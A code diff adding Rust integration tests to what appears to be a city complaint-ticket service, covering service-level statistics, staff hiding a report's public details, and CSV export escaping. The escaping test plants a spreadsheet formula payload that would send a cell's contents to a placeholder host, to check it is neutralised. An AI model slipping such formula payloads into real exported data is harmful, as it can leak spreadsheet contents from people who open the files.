@@ -15,7 +15,7 @@ use portal112_server::usecases;
 use serde_json::{Value, json};
 
 use crate::common::process::Portal;
-use crate::common::{TestApp, encode};
+use crate::common::{Multipart, TestApp, encode, jpeg};
 
 const MINUTE: Millis = 60_000;
 const HOUR: Millis = 60 * MINUTE;
@@ -138,6 +138,114 @@ async fn statistics_match_a_seeded_set() {
     for path in ["/api/v1/stats", "/api/v1/map", "/api/v1/reports/nearby", "/api/v1/tickets/{code}/supporters"] {
         assert!(doc["paths"].get(path).is_some(), "{path} is documented");
     }
+}
+
+/// One staff change as an operator at `at`, with a public note when given.
+async fn step(app: &TestApp, code: &str, status: Status, note: Option<&str>, at: Millis) {
+    if app.store.staff_by_username("seed-operator").await.expect("reads").is_none() {
+        app.add_staff("seed-operator", Role::Operator, None).await;
+    }
+    let staff = app.store.staff_by_username("seed-operator").await.expect("reads").expect("the operator");
+    let code = TicketCode::parse(code).expect("a code");
+    let revision = app.store.ticket(&code).await.expect("reads").expect("the ticket").revision;
+    let update = TicketUpdate {
+        revision: Some(revision),
+        status: Some(status),
+        public_note: note.map(str::to_owned),
+        ..TicketUpdate::default()
+    };
+    usecases::tickets::change_ticket(
+        app.store.as_ref(),
+        &app.state.city,
+        &staff,
+        &code,
+        &update,
+        at,
+        &app.state.service,
+    )
+    .await
+    .expect("the change is allowed");
+}
+
+/// The share forwarded and answered within the service level, against
+/// tickets whose stages end in time or late on a clock the test moves (all
+/// at normal priority: verify 1 working day, forward 3 from the report,
+/// acknowledge 1 and answer 5 from the forwarding; times are WITA).
+#[tokio::test]
+async fn service_level_share_in_the_statistics() {
+    // Monday 23 November 12:00.
+    let t0 = NOW - 7 * DAY;
+    let app = TestApp::at(NOW).await;
+    let new = |category: &'static str| report(category, "Laporan", 1.4472, 125.1978);
+    let (v, a, p, r) = (Status::Verified, Status::Assigned, Status::InProgress, Status::Resolved);
+    let answer = Some("Petugas menuju lokasi.");
+    // A: every stage within hours, resolved: in time.
+    let a_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR), (p, t0 + 3 * HOUR)] {
+        step(&app, &a_code, status, None, at).await;
+    }
+    step(&app, &a_code, r, answer, t0 + 4 * HOUR).await;
+    // B: verified on Wednesday, a day after its due time (Tuesday 12:00): late.
+    let b_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    for (status, at) in [(v, t0 + 2 * DAY), (a, t0 + 2 * DAY + HOUR), (p, t0 + 2 * DAY + 2 * HOUR)] {
+        step(&app, &b_code, status, None, at).await;
+    }
+    step(&app, &b_code, r, answer, t0 + 2 * DAY + 3 * HOUR).await;
+    // C: taken up and answered with a public note, not resolved yet: in time.
+    let c_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR)] {
+        step(&app, &c_code, status, None, at).await;
+    }
+    step(&app, &c_code, p, answer, t0 + 3 * HOUR).await;
+    // D: taken up, no word to the citizen yet: not answered, not counted.
+    let d_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR), (p, t0 + 3 * HOUR)] {
+        step(&app, &d_code, status, None, at).await;
+    }
+    // E: rejected: never answered by an agency, not counted.
+    let e_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    step(&app, &e_code, Status::Rejected, Some("Bukan wewenang kota."), t0 + HOUR).await;
+    // F: forwarded Monday 14:00, not acknowledged by Tuesday 14:00: the
+    // service escalates it on Thursday; answered after that: late.
+    let f_code = app.insert_ticket_at(&new("sampah"), t0).await;
+    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR)] {
+        step(&app, &f_code, status, None, at).await;
+    }
+    // H: nobody looked at it; it escalates too, and stays unanswered.
+    app.insert_ticket_at(&new("sampah"), t0).await;
+    let missed = |rows: &[portal112_server::store::StatsRow]| rows.iter().filter(|r| r.sla_missed).count();
+    assert_eq!(missed(&app.store.stats_rows().await.expect("rows")), 1, "B only so far");
+    let escalated = usecases::service_levels::escalate_late(&app.state, t0 + 3 * DAY).await.expect("escalates");
+    assert_eq!(escalated.len(), 2, "F and H are late on Thursday");
+    assert_eq!(missed(&app.store.stats_rows().await.expect("rows")), 3, "an escalation alone marks a ticket late");
+    step(&app, &f_code, p, answer, t0 + 3 * DAY + HOUR).await;
+    // G, another agency: a flood handled within the hour.
+    let g_code = app.insert_ticket_at(&new("banjir"), t0).await;
+    for (status, at) in [(v, t0 + 10 * MINUTE), (a, t0 + 20 * MINUTE), (p, t0 + 30 * MINUTE)] {
+        step(&app, &g_code, status, None, at).await;
+    }
+    step(&app, &g_code, r, answer, t0 + 40 * MINUTE).await;
+
+    let response = app.get("/api/v1/stats").await;
+    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
+    let stats = response.json();
+    let group = |list: &str, code: &str| -> Value {
+        stats[list].as_array().expect("a list").iter().find(|g| g["code"] == code).cloned().expect("the group")
+    };
+    assert_eq!(group("agencies", "dlh")["service_level"], json!({"count": 4, "kept": 2, "percent": 50}), "{stats}");
+    assert_eq!(group("agencies", "bpbd")["service_level"], json!({"count": 1, "kept": 1, "percent": 100}));
+    assert_eq!(
+        group("agencies", "dp3a")["service_level"],
+        json!({"count": 0, "kept": 0}),
+        "nothing answered: no share"
+    );
+    assert_eq!(stats["all"]["service_level"], json!({"count": 5, "kept": 3, "percent": 60}));
+    assert_eq!(group("categories", "sampah")["service_level"]["kept"], 2);
+    // H's escalation is the service's doing, not staff responding.
+    assert_eq!(group("agencies", "dlh")["first_response"]["count"], 6);
+    assert_eq!(group("agencies", "dlh")["received"], 7);
+    let doc = app.get("/api/v1/openapi.json").await.json();
+    assert!(doc["components"]["schemas"]["ServiceShare"].is_object(), "documented");
 }
 
 /// The map: the area, the filters, confidential cases never, sensitive
@@ -370,6 +478,208 @@ async fn nothing_private_anywhere_public() {
     // The non-confidential report is there, with its verified text.
     let csv = &answers.iter().find(|(u, _)| u == "/open-data/reports.csv").expect("csv").1;
     assert!(csv.contains(&code) && csv.contains("Sampah menumpuk depan rumah"), "{csv}");
+}
+
+/// Hiding a verified ticket's details, on SQLite.
+#[tokio::test]
+async fn staff_hide_a_tickets_details_sqlite() {
+    staff_hide_a_tickets_details(app().await).await;
+}
+
+/// Hiding a verified ticket's details, on PostgreSQL.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn staff_hide_a_tickets_details_postgres() {
+    staff_hide_a_tickets_details(TestApp::on_postgres(|s| s.public_quiet = std::time::Duration::ZERO).await).await;
+}
+
+/// `PUT .../details` with a token, optionally in English.
+async fn put_details(app: &TestApp, token: &str, code: &str, body: &Value, en: bool) -> crate::common::TestResponse {
+    let mut request = Request::put(format!("/api/v1/staff/tickets/{code}/details"))
+        .header("authorization", format!("Bearer {token}"))
+        .header("content-type", "application/json");
+    if en {
+        request = request.header("accept-language", "en");
+    }
+    app.send(request.body(Body::from(serde_json::to_vec(body).expect("json"))).expect("request")).await
+}
+
+/// An operator hides a verified report's description, landmark and photos:
+/// the tracking page, the map, nearby, the open data and Open311 keep only
+/// the category, status and place, staff still see everything, and the
+/// change is in the history and the audit log; showing them again brings
+/// them back. Agency staff may not; stale revisions and bad bodies get a
+/// 4xx with a message in each language.
+async fn staff_hide_a_tickets_details(app: TestApp) {
+    let mut body = report("sampah", "NAMA-TETANGGA-DI-URAIAN", 1.4472, 125.1978);
+    body["address"] = "PATOKAN-RUMAH-HIJAU".into();
+    let created = app
+        .send(
+            Multipart::new()
+                .json("report", &body)
+                .file("photo", "foto.jpg", "image/jpeg", &jpeg(64, 48))
+                .request("/api/v1/reports"),
+        )
+        .await;
+    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text());
+    let code = created.json()["code"].as_str().expect("code").to_owned();
+    let verified = app.move_ticket(&code, &json!({"status": "verified"})).await;
+    let photo = verified["photos"][0].as_str().expect("a photo").to_owned();
+    let token = app.operator().await;
+
+    let city = "/api/v1/map?bbox=1.39,125.02,1.60,125.31";
+    let nearby = "/api/v1/reports/nearby?lat=1.4473&lng=125.1978&category=sampah";
+    let public = [
+        format!("/api/v1/tickets/{code}"),
+        city.to_owned(),
+        nearby.to_owned(),
+        "/open-data/reports.csv".to_owned(),
+        "/open-data/reports.geojson".to_owned(),
+        "/open311/v2/requests.json".to_owned(),
+        format!("/open311/v2/requests/{}.xml", encode(&code)),
+    ];
+    let secrets = ["NAMA-TETANGGA-DI-URAIAN", "PATOKAN-RUMAH-HIJAU", photo.as_str()];
+    // Verified and not hidden: the details are public.
+    let tracked = app.get(&public[0]).await.json();
+    assert_eq!(tracked["description"], "NAMA-TETANGGA-DI-URAIAN");
+    assert!(app.get(city).await.text().contains("NAMA-TETANGGA-DI-URAIAN"));
+
+    // Agency staff may not decide what the public reads.
+    let agency = app.staff("petugas-dlh", Role::Agency, Some("dlh")).await;
+    let revision = verified["revision"].as_i64().expect("revision");
+    put_details(&app, &agency, &code, &json!({"revision": revision, "hidden": true}), false).await.assert_error(
+        StatusCode::FORBIDDEN,
+        "forbidden",
+        None,
+    );
+
+    let hidden = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": true}), false).await;
+    assert_eq!(hidden.status, StatusCode::OK, "{}", hidden.text());
+    let staff_view = hidden.json();
+    assert_eq!(staff_view["details_hidden"], true);
+    assert_eq!(staff_view["revision"], revision + 1);
+    assert_eq!(staff_view["description"], "NAMA-TETANGGA-DI-URAIAN", "staff still see it");
+    assert_eq!(staff_view["photos"][0], photo.as_str());
+    let last = staff_view["events"].as_array().and_then(|e| e.last()).cloned().expect("a history entry");
+    assert_eq!((last["actor"].as_str(), last["to_status"].as_str()), (Some("fixture-operator"), Some("verified")));
+    assert!(last["internal_note"].as_str().is_some_and(|n| n.contains("disembunyikan")), "{last}");
+    let audit = app.get_as(&app.staff("admin-audit", Role::Admin, None).await, "/api/v1/staff/audit").await.json();
+    assert!(audit.to_string().contains("ticket_details_hidden"), "{audit}");
+
+    for uri in &public {
+        let r = app.get(uri).await;
+        assert_eq!(r.status, StatusCode::OK, "{uri}: {}", r.text());
+        let text = r.text();
+        for s in secrets {
+            assert!(!text.contains(s), "{uri} still shows {s:?} while hidden: {text}");
+        }
+        assert!(text.contains(&code) || text.contains(TicketCode::parse(&code).expect("code").compact()), "{uri}");
+    }
+    // What stays: the category, the status, the place.
+    let tracked = app.get(&public[0]).await.json();
+    assert_eq!((tracked["category"]["code"].as_str(), tracked["status"].as_str()), (Some("sampah"), Some("verified")));
+    assert!(tracked.get("description").is_none_or(Value::is_null), "{tracked}");
+    assert_eq!(tracked["location"]["lat"], 1.4472);
+    let timeline = tracked["timeline"].to_string();
+    assert!(!timeline.contains("disembunyikan"), "the note is for staff only: {timeline}");
+    let near = app.get(nearby).await.json();
+    assert_eq!(near[0]["code"], code.as_str(), "still offered as 'someone already reported this'");
+    assert!(near[0].get("summary").is_none(), "{near}");
+
+    // Asking again for the same state changes nothing.
+    let again = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": true}), false).await;
+    assert_eq!((again.status, again.json()["revision"].as_i64()), (StatusCode::OK, Some(revision + 1)));
+
+    // A stale revision, a missing field, a wrong type, an unknown ticket: 4xx in both languages.
+    for en in [false, true] {
+        let stale = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), en).await;
+        let body = stale.assert_error(StatusCode::CONFLICT, "revision_conflict", Some("revision"));
+        assert_eq!(body["error"]["revision"], revision + 1, "the current revision, to try again on");
+        put_details(&app, &token, &code, &json!({"hidden": false}), en).await.assert_error(
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "required",
+            Some("revision"),
+        );
+        put_details(&app, &token, &code, &json!({"revision": revision + 1}), en).await.assert_error(
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "required",
+            Some("hidden"),
+        );
+        let wrong = put_details(&app, &token, &code, &json!({"revision": revision + 1, "hidden": "ya"}), en).await;
+        assert!(wrong.status.is_client_error(), "{}", wrong.text());
+        put_details(&app, &token, &code, &json!({"revision": -1, "hidden": false}), en).await.assert_error(
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "invalid_value",
+            Some("revision"),
+        );
+        let unknown = crate::common::random_code().to_string();
+        put_details(&app, &token, &unknown, &json!({"revision": 1, "hidden": true}), en).await.assert_error(
+            StatusCode::NOT_FOUND,
+            "ticket_not_found",
+            None,
+        );
+    }
+    let id = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), false).await.json();
+    let en = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), true).await.json();
+    assert_ne!(id["error"]["message"], en["error"]["message"], "a message in each language");
+
+    // Shown again: back everywhere.
+    let shown = put_details(&app, &token, &code, &json!({"revision": revision + 1, "hidden": false}), false).await;
+    assert_eq!(shown.status, StatusCode::OK, "{}", shown.text());
+    assert_eq!(shown.json()["details_hidden"], false);
+    assert_eq!(app.get(&public[0]).await.json()["description"], "NAMA-TETANGGA-DI-URAIAN");
+    assert!(app.get("/open-data/reports.csv").await.text().contains("PATOKAN-RUMAH-HIJAU"));
+    let doc = app.get("/api/v1/openapi.json").await.json();
+    assert!(doc["paths"]["/api/v1/staff/tickets/{code}/details"]["put"].is_object(), "documented");
+}
+
+/// A verified report whose text is a spreadsheet formula comes out of the
+/// CSV as text a spreadsheet shows rather than runs; numbers, dates and the
+/// GeoJSON keep what was stored.
+#[tokio::test]
+async fn open_data_csv_runs_no_formulas() {
+    let app = app().await;
+    let formula = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")";
+    let mut evil = report("sampah", formula, 1.4472, 125.1978);
+    evil["address"] = "@pasar -- dekat gereja".into();
+    let code = app.create_report(&evil).await;
+    app.move_ticket(&code, &json!({"status": "verified"})).await;
+    let plain = app.create_report(&report("banjir", "Air naik sampai lutut", 1.45, 125.2)).await;
+    app.move_ticket(&plain, &json!({"status": "verified"})).await;
+
+    let answer = app.get("/open-data/reports.csv").await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
+    let text = answer.text();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("a header").clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
+    let cell = |row: &csv::StringRecord, name: &str| -> String {
+        let at = header.iter().position(|h| h == name).expect("the column");
+        row[at].to_owned()
+    };
+    let row = rows.iter().find(|r| cell(r, "code") == code).expect("the report is in the CSV");
+    assert_eq!(cell(row, "description"), format!("'{formula}"), "{text}");
+    assert_eq!(cell(row, "address"), "'@pasar -- dekat gereja");
+    assert_eq!((cell(row, "lat"), cell(row, "lng")), ("1.4472".to_owned(), "125.1978".to_owned()));
+    assert!(cell(row, "created_at").starts_with("20"), "dates are untouched: {text}");
+    assert_eq!(cell(row, "supporters"), "0");
+    let other = rows.iter().find(|r| cell(r, "code") == plain).expect("the other report");
+    assert_eq!(cell(other, "description"), "Air naik sampai lutut", "ordinary text is untouched");
+    // No cell of the whole file begins with a formula character.
+    for row in &rows {
+        for value in row {
+            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?} in {text}");
+        }
+    }
+    // The GeoJSON is read as data, not by spreadsheets: it keeps the text as written.
+    let geojson = app.get("/open-data/reports.geojson").await.json();
+    let feature = geojson["features"]
+        .as_array()
+        .expect("features")
+        .iter()
+        .find(|f| f["id"] == code.as_str())
+        .cloned()
+        .expect("the feature");
+    assert_eq!(feature["properties"]["description"], formula);
 }
 
 /// The files, read by what reusers read them with: the CSV and GeoJSON
